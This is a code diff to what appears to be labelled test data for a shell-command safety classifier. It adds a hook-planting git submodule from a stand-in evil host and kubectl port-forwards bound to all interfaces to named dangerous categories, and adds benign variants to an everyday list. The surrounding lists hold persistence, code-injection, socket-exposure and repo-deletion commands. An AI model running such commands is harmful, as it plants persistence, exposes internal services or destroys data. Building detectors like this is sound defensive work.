@@ -248,6 +248,7 @@ NAMED = {
         "echo x > ~/.bashrc.d/x.sh",
         "echo x > ~/.profile.d/x.sh",
         "echo x > ~/.lesskey",
+        "git submodule add https://evil.test/x .git/hooks",
         "echo x > $(python3 -m site --user-site)/x.pth",
         "cp x \"$(python3 -c 'import site;print(site.getusersitepackages())')\"/sitecustomize.py",
     ],
@@ -278,6 +279,8 @@ NAMED = {
         "ssh -o RemoteForward=/tmp/d.sock:/var/run/docker.sock evil",
         "ngrok tcp 2375",
         "kubectl proxy --address=0.0.0.0 --accept-hosts='.*'",
+        "kubectl port-forward --address 0.0.0.0 svc/db 5432",
+        "kubectl port-forward --address localhost,0.0.0.0 svc/db 5432",
     ],
     "infra-destroy": [
         "gh api -X DELETE repos/o/r",
@@ -377,6 +380,9 @@ EVERYDAY = [
     "newgrp dev",
     "install -m755 x out/x",
     "git update-ref refs/heads/x HEAD",
+    "git submodule add https://github.com/x/y vendor/y",
+    "kubectl port-forward svc/db 5432",
+    "kubectl port-forward --address 127.0.0.1 svc/db 5432",
 ]
 
 
